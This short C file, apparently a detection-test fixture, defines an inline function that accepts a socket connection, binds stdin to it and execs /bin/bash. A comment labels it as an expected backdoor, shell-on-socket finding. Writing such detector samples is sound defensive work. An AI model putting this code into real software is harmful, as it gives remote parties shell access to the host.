/* SPDX-License-Identifier: Apache-2.0 */
#include <stddef.h>
#include <sys/socket.h>
#include <unistd.h>

static inline int finds_in_a_header(int s)
{
	int c = accept(s, NULL, NULL);
	if (c < 0)
		return -1;
	dup2(c, STDIN_FILENO); /* expect: backdoor/shell-on-socket */
	return execl("/bin/bash", "bash", (char *)NULL);
}
